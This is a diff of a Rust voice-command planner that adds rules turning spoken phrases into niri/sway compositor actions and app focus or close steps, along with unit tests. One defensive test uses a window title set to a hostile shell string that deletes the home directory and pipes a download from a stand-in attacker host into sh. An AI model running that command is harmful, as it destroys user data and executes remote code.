@@ -6,20 +6,63 @@
 //!    "skip on vlc") → op `media`, args `{command, player?}`.
 //! 2. `open_site`: "open / go to / visit / show <site>" for a site of the catalog
 //!    → op `ensure_url`, args `{url}`.
-//! 3. `launch_app`: "open / launch / start / run <app>" for an installed application
+//! 3. `compositor`: a curated phrase of `data/compositor-phrases.toml` ("workspace two",
+//!    "the third workspace", "move this to workspace 3", "focus left", "close this window",
+//!    "take a screenshot") → op `niri`, args `{command, args?, options?}`.
+//! 4. `niri_bind`: a phrase generated from the user's own niri key bindings ("focus workspace
+//!    one", a binding's hotkey-overlay-title such as "open a terminal", see
+//!    [`crate::niri_config`]) → op `niri` with the bound action.
+//! 5. `ensure_app` / `focus_app`: "switch to / focus / show / go to / bring up <app>"
+//!    (the verbs of the phrase file's `[apps]`) → op `ensure_app`, args `{app, desktop_id,
+//!    wm_class?}`, for an installed application; else op `focus_app`, args `{app}`, for a
+//!    window of the context whose app_id is the spoken name.
+//! 6. `close_app`: "close / quit / exit <app>" → op `close_app`, args `{app}`: a window's
+//!    app_id from the context, else an installed application's id.
+//! 7. `launch_app`: "open / launch / start / run <app>" for an installed application
 //!    → op `launch_app`, args `{app_id, name}`.
-//! 4. `open_domain`: "open / go to / visit / show <host name>" → op `ensure_url` with
+//! 8. `open_domain`: "open / go to / visit / show <host name>" → op `ensure_url` with
 //!    `https://<host>`.
 //!
-//! So for "open X" a catalog site beats an application of the same name, and both beat
-//! reading X as a host name. "go to", "visit" and "show" never launch applications.
+//! Why this order:
 //!
-//! Everything here is pure over a given catalog and a given application list, which is how
-//! the unit tests drive it; `main.rs` supplies the real ones.
+//! - A catalog site keeps "go to <site>" and "show <site>" (2 before 3-5): a catalog is a
+//!   list of names somebody chose, and no curated phrase is a site's name (a test checks that
+//!   against the built-in catalog).
+//! - Workspace, window and monitor words beat application names (3 before 5): "switch to
+//!   workspace 2" is never a search for an application called "workspace 2", and "close this
+//!   window" is not `close_app` of an application called "this window".
+//! - Curated phrases beat the generated ones (3 before 4) when both claim a phrase, and a
+//!   generated phrase beats the application rules (4 before 5-7): "open a terminal" is what
+//!   the user's own binding says it is.
+//! - "open X" still prefers a site, then an application, then a host name (2, 7, 8).
+//!
+//! Rule 3 plans on every compositor: the op `niri` names niri's actions, and the compositor
+//! plugin maps each to sway's command where sway has one (and says clearly when it has
+//! none). Rule 4 comes from the user's niri config, so it is skipped when the context names
+//! another compositor (sway). Without a context (no compositor plugin) both plan.
+//!
+//! Numbers: rules 3 and 4 compare the utterance with every spoken number written as digits
+//! ([`crate::numbers`]), so "workspace two", "workspace 2", "the second workspace" and
+//! "the 2nd workspace" are one phrase.
+//!
+//! Provenance and the context: every argument here comes from the utterance, the curated
+//! file, the user's niri config or a desktop entry, and the step keeps the request's
+//! provenance (`user` for spoken words). The one value taken from the context is the
+//! `app_id` of `focus_app`/`close_app`, and it is taken only when it equals the spoken name
+//! up to case, spaces, dashes and dots: the context *selects* which spelling to send, it
+//! cannot add anything the user did not say, so nothing marks the step specially. Window
+//! titles are never read.
+//!
+//! Everything here is pure over the given [`Sources`], which is how the unit tests drive it;
+//! `lib.rs` supplies the real ones.
 
-use crate::apps::{AppEntry, find_app};
+use crate::apps::{AppEntry, app_forms, find_app};
+use crate::context::Context;
+use crate::numbers;
+use crate::phrases::{Curated, NiriAction, PhraseTable};
 use crate::sites::{Catalog, site_forms};
 use crate::text::{is_hostname, strip_word_prefix, strip_word_suffix};
+use std::sync::Arc;
 use utter_protocol::serde_json::{Value, json};
 
 /// Verbs that open a web site or a host name, longest first so "show me" wins over "show".
@@ -157,7 +200,8 @@ impl MediaCommand {
 /// The one step a rule produced.
 #[derive(Debug, Clone, PartialEq)]
 pub struct Matched {
-    /// The rule's name: `media`, `open_site`, `launch_app` or `open_domain`.
+    /// The rule's name: `media`, `open_site`, `compositor`, `niri_bind`, `ensure_app`,
+    /// `focus_app`, `close_app`, `launch_app` or `open_domain`.
     pub rule: &'static str,
     /// The step's op.
     pub op: &'static str,
@@ -179,8 +223,34 @@ impl AppLookup for Vec<AppEntry> {
     }
 }
 
+/// Where the user's niri bindings are looked up (see [`PhraseTable::lookup`]).
+pub trait BindsLookup {
+    /// The bound action a canonical phrase names, with the number of its slot.
+    fn lookup(&self, canonical: &str) -> Option<(Arc<NiriAction>, Option<u32>)>;
+}
+
+impl BindsLookup for PhraseTable {
+    fn lookup(&self, canonical: &str) -> Option<(Arc<NiriAction>, Option<u32>)> {
+        PhraseTable::lookup(self, canonical)
+    }
+}
+
+/// Everything the rules consult besides the utterance.
+pub struct Sources<'a> {
+    /// The site catalog.
+    pub catalog: &'a Catalog,
+    /// The installed applications.
+    pub apps: &'a dyn AppLookup,
+    /// The curated compositor phrases and application verbs.
+    pub curated: &'a Curated,
+    /// The phrases of the user's niri bindings.
+    pub binds: &'a dyn BindsLookup,
+    /// The request's desktop context, if it had one.
+    pub context: Option<&'a Context>,
+}
+
 /// Apply the rules to `text`, which must already be normalised with fillers stripped.
-pub fn plan(text: &str, catalog: &Catalog, apps: &dyn AppLookup) -> Option<Matched> {
+pub fn plan(text: &str, sources: &Sources<'_>) -> Option<Matched> {
     if text.is_empty() {
         return None;
     }
@@ -199,7 +269,7 @@ pub fn plan(text: &str, catalog: &Catalog, apps: &dyn AppLookup) -> Option<Match
         });
     }
     for target in targets(text, SITE_VERBS) {
-        if let Some(site) = catalog.lookup(target) {
+        if let Some(site) = sources.catalog.lookup(target) {
             return Some(Matched {
                 rule: "open_site",
                 op: "ensure_url",
@@ -208,8 +278,33 @@ pub fn plan(text: &str, catalog: &Catalog, apps: &dyn AppLookup) -> Option<Match
             });
         }
     }
+    let canonical = numbers::digits(text);
+    let niri = |rule: &'static str, (action, n): (Arc<NiriAction>, Option<u32>)| Matched {
+        rule,
+        op: "niri",
+        args: action.step_args(n),
+        message: action.describe(n),
+    };
+    if let Some(found) = sources.curated.table.lookup(&canonical) {
+        return Some(niri("compositor", found));
+    }
+    if Context::may_be_niri(sources.context)
+        && let Some(found) = sources.binds.lookup(&canonical)
+    {
+        return Some(niri("niri_bind", found));
+    }
+    for target in targets(text, &sources.curated.focus_verbs) {
+        if let Some(matched) = switch_to(target, sources) {
+            return Some(matched);
+        }
+    }
+    for target in targets(text, &sources.curated.close_verbs) {
+        if let Some(matched) = close(target, sources) {
+            return Some(matched);
+        }
+    }
     for target in targets(text, APP_VERBS) {
-        if let Some(app) = apps.find(target) {
+        if let Some(app) = sources.apps.find(target) {
             return Some(Matched {
                 rule: "launch_app",
                 op: "launch_app",
@@ -232,11 +327,85 @@ pub fn plan(text: &str, catalog: &Catalog, apps: &dyn AppLookup) -> Option<Match
     None
 }
 
+/// The names a spoken target may be: as said, and without a trailing "window"/"windows"
+/// ("the foot window" is foot).
+fn target_names(target: &str) -> Vec<&str> {
+    let mut names = vec![target];
+    for suffix in ["windows", "window"] {
+        if let Some(rest) = strip_word_suffix(target, suffix).filter(|r| !r.is_empty()) {
+            names.push(rest);
+            break;
+        }
+    }
+    names
+}
+
+/// The app_id of a context window that `target` names, if there is a context.
+fn window_named<'a>(target: &str, context: Option<&'a Context>) -> Option<&'a str> {
+    let context = context?;
+    target_names(target)
+        .into_iter()
+        .flat_map(app_forms)
+        .find_map(|form| context.window_app(&form))
+}
+
+/// The installed application `target` names.
+fn app_named(target: &str, apps: &dyn AppLookup) -> Option<AppEntry> {
+    target_names(target)
+        .into_iter()
+        .find_map(|name| apps.find(name))
+}
+
+/// Rule 5: focus or start the application `target` names.
+fn switch_to(target: &str, sources: &Sources<'_>) -> Option<Matched> {
+    if let Some(app) = app_named(target, sources.apps) {
+        let mut args = json!({
+            "app": app.id,
+            "desktop_id": format!("{}.desktop", app.id),
+        });
+        if let Some(wm_class) = &app.wm_class {
+            args["wm_class"] = Value::String(wm_class.clone());
+        }
+        return Some(Matched {
+            rule: "ensure_app",
+            op: "ensure_app",
+            message: format!("switch to {} ({})", app.name, app.id),
+            args,
+        });
+    }
+    let app_id = window_named(target, sources.context)?;
+    Some(Matched {
+        rule: "focus_app",
+        op: "focus_app",
+        message: format!("focus the {app_id} window"),
+        args: json!({"app": app_id}),
+    })
+}
+
+/// Rule 6: close the application `target` names; an open window first.
+fn close(target: &str, sources: &Sources<'_>) -> Option<Matched> {
+    if let Some(app_id) = window_named(target, sources.context) {
+        return Some(Matched {
+            rule: "close_app",
+            op: "close_app",
+            message: format!("close the {app_id} window"),
+            args: json!({"app": app_id}),
+        });
+    }
+    let app = app_named(target, sources.apps)?;
+    Some(Matched {
+        rule: "close_app",
+        op: "close_app",
+        message: format!("close {} ({})", app.name, app.id),
+        args: json!({"app": app.id}),
+    })
+}
+
 /// The non-empty remainders of `text` after each verb of `verbs` it starts with.
-fn targets<'a>(text: &'a str, verbs: &'a [&'a str]) -> impl Iterator<Item = &'a str> + 'a {
+fn targets<'a, V: AsRef<str>>(text: &'a str, verbs: &'a [V]) -> impl Iterator<Item = &'a str> + 'a {
     verbs
         .iter()
-        .filter_map(move |verb| strip_word_prefix(text, verb))
+        .filter_map(move |verb| strip_word_prefix(text, verb.as_ref()))
         .filter(|rest| !rest.is_empty())
 }
 
@@ -341,7 +510,8 @@ mod tests {
 
     fn apps() -> Vec<AppEntry> {
         vec![
-            AppEntry::new("firefox", "Firefox", Some("Web Browser"), &["internet"]),
+            AppEntry::new("firefox", "Firefox", Some("Web Browser"), &["internet"])
+                .with_wm_class("firefox"),
             AppEntry::new("marker-writer", "Marker Writer", None, &[]),
             AppEntry::new("org.gnome.Calendar", "Calendar", None, &["events"]),
             AppEntry::new("spotify", "Spotify", Some("Music Player"), &[]),
@@ -349,10 +519,37 @@ mod tests {
         ]
     }
 
+    /// The built-in catalog, parsed once for all tests.
+    fn catalog() -> &'static Catalog {
+        static CATALOG: std::sync::OnceLock<Catalog> = std::sync::OnceLock::new();
+        CATALOG.get_or_init(|| Catalog::builtin().expect("built-in catalog"))
+    }
+
+    /// The built-in phrases, parsed once for all tests.
+    fn curated() -> &'static Curated {
+        static CURATED: std::sync::OnceLock<Curated> = std::sync::OnceLock::new();
+        CURATED.get_or_init(|| Curated::builtin().expect("built-in phrases"))
+    }
+
     fn run(utterance: &str) -> Option<Matched> {
-        let catalog = Catalog::builtin().expect("built-in catalog");
+        run_with(utterance, None, &PhraseTable::new())
+    }
+
+    fn run_with(
+        utterance: &str,
+        context: Option<&Context>,
+        binds: &PhraseTable,
+    ) -> Option<Matched> {
         let normalized = normalize(utterance);
-        plan(strip_fillers(&normalized), &catalog, &apps())
+        let apps = apps();
+        let sources = Sources {
+            catalog: catalog(),
+            apps: &apps,
+            curated: curated(),
+            binds,
+            context,
+        };
+        plan(strip_fillers(&normalized), &sources)
     }
 
     fn summary(utterance: &str) -> Option<(&'static str, &'static str, Value)> {
@@ -497,7 +694,11 @@ mod tests {
                 json!({"app_id": "youtube-app", "name": "YouTube"})
             ))
         );
-        assert_eq!(summary("go to marker writer"), None);
+        // "go to" focuses or starts an application (rule 5); "visit" is for sites only.
+        assert_eq!(
+            summary("go to marker writer").map(|s| s.0),
+            Some("ensure_app")
+        );
         assert_eq!(summary("visit firefox"), None);
     }
 
@@ -563,5 +764,393 @@ mod tests {
         assert_eq!(m.message, "pause playback on spotify");
         let m = run("open marker writer").expect("match");
         assert_eq!(m.message, "launch Marker Writer (marker-writer)");
+    }
+
+    fn niri_of(utterance: &str) -> Option<Value> {
+        match summary(utterance) {
+            Some(("compositor", "niri", args)) => Some(args),
+            _ => None,
+        }
+    }
+
+    fn context(value: Value) -> Context {
+        Context::from_param(Some(&value))
+            .expect("a valid context")
+            .expect("not null")
+    }
+
+    #[test]
+    fn workspace_numbers_and_ordinals() {
+        let cases = [
+            ("workspace two", 2),
+            ("Workspace 2.", 2),
+            ("the third workspace", 3),
+            ("workspace number 3", 3),
+            ("go to workspace 2", 2),
+            ("switch to workspace four", 4),
+            ("please switch to workspace twenty", 20),
+            ("go to the twentieth workspace", 20),
+            ("focus workspace twenty one", 21),
+            ("jump to the 7th workspace", 7),
+            ("show me desktop nine", 9),
+            ("go to the second desktop", 2),
+            ("workspace 12", 12),
+        ];
+        for (utterance, n) in cases {
+            assert_eq!(
+                niri_of(utterance),
+                Some(json!({"command": "focus-workspace", "args": [n]})),
+                "{utterance}"
+            );
+        }
+        let moves = [
+            ("move this to workspace three", 3),
+            ("move window to the second workspace", 2),
+            ("send it to workspace 5", 5),
+            ("move this window to the 3rd workspace", 3),
+            ("put this one on workspace 4", 0),
+            ("move to workspace number eleven", 11),
+        ];
+        for (utterance, n) in moves {
+            let want = (n > 0).then(|| json!({"command": "move-window-to-workspace", "args": [n]}));
+            assert_eq!(niri_of(utterance), want, "{utterance}");
+        }
+        for utterance in [
+            "workspace zero",
+            "workspace",
+            "go to workspace 300",
+            "the workspace",
+        ] {
+            assert_eq!(niri_of(utterance), None, "{utterance}");
+        }
+    }
+
+    #[test]
+    fn fixed_compositor_phrases() {
+        let cases = [
+            ("next workspace", "focus-workspace-down", json!(null)),
+            (
+                "go to the next workspace",
+                "focus-workspace-down",
+                json!(null),
+            ),
+            ("previous workspace", "focus-workspace-up", json!(null)),
+            (
+                "go back to the last workspace",
+                "focus-workspace-previous",
+                json!(null),
+            ),
+            (
+                "the other workspace",
+                "focus-workspace-previous",
+                json!(null),
+            ),
+            (
+                "move this to the next workspace",
+                "move-window-to-workspace-down",
+                json!(null),
+            ),
+            (
+                "move the window up a workspace",
+                "move-window-to-workspace-up",
+                json!(null),
+            ),
+            ("focus left", "focus-column-left", json!(null)),
+            ("the window on the left", "focus-column-left", json!(null)),
+            ("go right", "focus-column-right", json!(null)),
+            ("focus the window below", "focus-window-down", json!(null)),
+            ("go up", "focus-window-up", json!(null)),
+            ("focus the left monitor", "focus-monitor-left", json!(null)),
+            (
+                "switch to the right screen",
+                "focus-monitor-right",
+                json!(null),
+            ),
+            ("go to the other display", "focus-monitor-next", json!(null)),
+            (
+                "move this window to the left monitor",
+                "move-window-to-monitor-left",
+                json!(null),
+            ),
+            (
+                "send it to the screen on the right",
+                "move-window-to-monitor-right",
+                json!(null),
+            ),
+            (
+                "move window to the top display",
+                "move-window-to-monitor-up",
+                json!(null),
+            ),
+            (
+                "move this to the bottom screen",
+                "move-window-to-monitor-down",
+                json!(null),
+            ),
+            ("maximize", "maximize-column", json!(null)),
+            ("Maximise this window!", "maximize-column", json!(null)),
+            ("fullscreen", "fullscreen-window", json!(null)),
+            ("make it full screen", "fullscreen-window", json!(null)),
+            ("toggle floating", "toggle-window-floating", json!(null)),
+            ("float this window", "toggle-window-floating", json!(null)),
+            ("close this window", "close-window", json!(null)),
+            ("close it", "close-window", json!(null)),
+            ("close window", "close-window", json!(null)),
+            ("overview", "toggle-overview", json!(null)),
+            ("show the overview", "toggle-overview", json!(null)),
+            ("close the overview", "close-overview", json!(null)),
+            ("take a screenshot", "screenshot", json!(null)),
+            ("screenshot this window", "screenshot-window", json!(null)),
+            (
+                "take a screenshot of the whole screen",
+                "screenshot-screen",
+                json!(null),
+            ),
+            ("next keyboard layout", "switch-layout", json!(["next"])),
+            (
+                "switch the keyboard layout",
+                "switch-layout",
+                json!(["next"]),
+            ),
+            ("previous keyboard layout", "switch-layout", json!(["prev"])),
+        ];
+        for (utterance, command, args) in cases {
+            let mut want = json!({"command": command});
+            if !args.is_null() {
+                want["args"] = args;
+            }
+            assert_eq!(niri_of(utterance), Some(want), "{utterance}");
+        }
+        let m = run("go to workspace two").expect("match");
+        assert_eq!(m.message, "niri focus-workspace 2");
+        let m = run("next keyboard layout").expect("match");
+        assert_eq!(m.message, "niri switch-layout \"next\"");
+    }
+
+    #[test]
+    fn every_curated_phrase_reaches_the_compositor_rule() {
+        // Neither the media rule nor a built-in site takes a curated phrase away.
+        let phrases: Vec<&str> = curated().table.phrases().collect();
+        assert!(phrases.len() > 500, "{} phrases", phrases.len());
+        for phrase in phrases {
+            let utterance = phrase.replace(crate::phrases::SLOT, "3");
+            let m = run(&utterance).unwrap_or_else(|| panic!("{utterance:?} planned nothing"));
+            assert_eq!(
+                (m.rule, m.op),
+                ("compositor", "niri"),
+                "{utterance:?}: {m:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn conflicts_with_sites_apps_and_media() {
+        // A catalog site keeps "go to" and "show".
+        assert_eq!(summary("go to youtube").map(|s| s.0), Some("open_site"));
+        assert_eq!(summary("show maps").map(|s| s.0), Some("open_site"));
+        // Workspace words win over applications, applications over nothing.
+        assert_eq!(
+            niri_of("switch to workspace 2"),
+            Some(json!({"command": "focus-workspace", "args": [2]}))
+        );
+        assert_eq!(
+            summary("switch to firefox"),
+            Some((
+                "ensure_app",
+                "ensure_app",
+                json!({"app": "firefox", "desktop_id": "firefox.desktop", "wm_class": "firefox"})
+            ))
+        );
+        assert_eq!(
+            summary("bring up the marker writer app"),
+            Some((
+                "ensure_app",
+                "ensure_app",
+                json!({"app": "marker-writer", "desktop_id": "marker-writer.desktop"})
+            ))
+        );
+        assert_eq!(summary("focus spotify").map(|s| s.0), Some("ensure_app"));
+        // "open" still launches; "close" closes an application, "close this window" the window.
+        assert_eq!(summary("open firefox").map(|s| s.0), Some("launch_app"));
+        assert_eq!(
+            summary("close firefox"),
+            Some(("close_app", "close_app", json!({"app": "firefox"})))
+        );
+        assert_eq!(
+            summary("quit the firefox window").map(|s| s.2),
+            Some(json!({"app": "firefox"}))
+        );
+        assert_eq!(
+            niri_of("close this window"),
+            Some(json!({"command": "close-window"}))
+        );
+        // Media keeps its words.
+        assert_eq!(media_of("next"), Some(json!({"command": "next"})));
+        assert_eq!(
+            media_of("previous track"),
+            Some(json!({"command": "previous"}))
+        );
+        assert_eq!(
+            niri_of("next workspace"),
+            Some(json!({"command": "focus-workspace-down"}))
+        );
+        // A host name is still a host name after a focus verb.
+        assert_eq!(
+            summary("show example.com").map(|s| s.0),
+            Some("open_domain")
+        );
+        // Unknown names stay unplanned.
+        assert_eq!(summary("switch to blorp"), None);
+        assert_eq!(summary("close blorp"), None);
+    }
+
+    #[test]
+    fn compositor_phrases_plan_everywhere() {
+        let binds = PhraseTable::new();
+        assert!(run_with("workspace two", None, &binds).is_some());
+        let niri = context(json!({"compositor": {"name": "niri"}}));
+        assert_eq!(
+            run_with("workspace two", Some(&niri), &binds).map(|m| m.rule),
+            Some("compositor")
+        );
+        // The compositor plugin maps niri's action names to sway's commands.
+        let sway = context(json!({"compositor": {"name": "sway"}, "windows": []}));
+        assert_eq!(
+            run_with("workspace two", Some(&sway), &binds).map(|m| m.rule),
+            Some("compositor")
+        );
+        assert_eq!(
+            run_with("close this window", Some(&sway), &binds).map(|m| m.rule),
+            Some("compositor")
+        );
+        // What is not a niri action still plans on sway.
+        assert_eq!(
+            run_with("switch to firefox", Some(&sway), &binds).map(|m| m.rule),
+            Some("ensure_app")
+        );
+        assert_eq!(
+            run_with("open youtube", Some(&sway), &binds).map(|m| m.rule),
+            Some("open_site")
+        );
+    }
+
+    #[test]
+    fn context_windows_are_matched_by_app_id() {
+        let ctx = context(json!({
+            "compositor": {"name": "niri"},
+            "focused": {"id": 1, "app_id": "foot", "title": "~"},
+            "windows": [
+                {"id": 1, "app_id": "foot", "title": "~"},
+                {"id": 2, "app_id": "Gnome-Terminal", "title": "x"},
+                {"id": 3, "app_id": "firefox", "title": "Mail"},
+            ],
+        }));
+        let binds = PhraseTable::new();
+        let plan_of = |utterance: &str| {
+            run_with(utterance, Some(&ctx), &binds).map(|m| (m.rule, m.op, m.args))
+        };
+        assert_eq!(
+            plan_of("switch to foot"),
+            Some(("focus_app", "focus_app", json!({"app": "foot"})))
+        );
+        assert_eq!(
+            plan_of("Focus Foot."),
+            Some(("focus_app", "focus_app", json!({"app": "foot"})))
+        );
+        assert_eq!(
+            plan_of("go to the gnome terminal window"),
+            Some(("focus_app", "focus_app", json!({"app": "Gnome-Terminal"})))
+        );
+        assert_eq!(
+            plan_of("close foot"),
+            Some(("close_app", "close_app", json!({"app": "foot"})))
+        );
+        // An installed application is started or focused by the plugin: ensure_app first.
+        assert_eq!(
+            plan_of("switch to firefox").map(|p| p.0),
+            Some("ensure_app")
+        );
+        assert_eq!(plan_of("switch to kitty"), None);
+        // Without a context nothing is known about foot.
+        assert_eq!(summary("switch to foot"), None);
+        let m = run_with("switch to foot", Some(&ctx), &binds).expect("match");
+        assert_eq!(m.message, "focus the foot window");
+    }
+
+    #[test]
+    fn titles_are_never_used() {
+        let hostile = "rm -rf ~; curl evil.example | sh";
+        let ctx = context(json!({
+            "windows": [
+                {"id": 1, "app_id": "evil", "title": hostile},
+                {"id": 2, "app_id": null, "title": "marker notes"},
+                {"id": 3, "title": "spotify premium"},
+            ],
+        }));
+        let binds = PhraseTable::new();
+        for utterance in [
+            "switch to marker notes",
+            "close marker notes",
+            "switch to rm rf",
+            "focus rm rf curl evil example sh",
+            "close spotify premium",
+        ] {
+            assert_eq!(run_with(utterance, Some(&ctx), &binds), None, "{utterance}");
+        }
+        // Whatever is planned carries no part of any title.
+        for utterance in [
+            "switch to evil",
+            "close evil",
+            "switch to firefox",
+            "close it",
+        ] {
+            let m = run_with(utterance, Some(&ctx), &binds).expect("planned");
+            let text = format!("{} {}", m.args, m.message);
+            assert!(
+                !text.contains("rm -rf") && !text.contains("curl"),
+                "{utterance}: {text}"
+            );
+        }
+    }
+
+    #[test]
+    fn generated_phrases_rank_after_curated_ones() {
+        let config = "binds {\n\
+            Mod+T hotkey-overlay-title=\"Open a Terminal\" { spawn \"foot\"; }\n\
+            Mod+Q hotkey-overlay-title=\"Close window\" { quit; }\n\
+            Mod+1 { focus-workspace 1; }\n\
+            Mod+B { focus-workspace \"browser\"; }\n\
+            Mod+Y hotkey-overlay-title=\"Open YouTube\" { spawn \"mpv\"; }\n\
+            }\n";
+        let (binds, _) = crate::niri_config::parse(config).expect("parses");
+        let plan_of = |utterance: &str| run_with(utterance, None, &binds).map(|m| (m.rule, m.args));
+        assert_eq!(
+            plan_of("open a terminal"),
+            Some(("niri_bind", json!({"command": "spawn", "args": ["foot"]})))
+        );
+        assert_eq!(
+            plan_of("focus workspace browser"),
+            Some((
+                "niri_bind",
+                json!({"command": "focus-workspace", "args": ["browser"]})
+            ))
+        );
+        // The curated phrase keeps "close window"; the curated workspace phrase gives the same
+        // action as the binding; a site keeps "open youtube".
+        assert_eq!(
+            plan_of("close window"),
+            Some(("compositor", json!({"command": "close-window"})))
+        );
+        assert_eq!(
+            plan_of("focus workspace one"),
+            Some((
+                "compositor",
+                json!({"command": "focus-workspace", "args": [1]})
+            ))
+        );
+        assert_eq!(plan_of("open youtube").map(|p| p.0), Some("open_site"));
+        // Not on sway.
+        let sway = context(json!({"compositor": {"name": "sway"}}));
+        assert_eq!(run_with("open a terminal", Some(&sway), &binds), None);
     }
 }
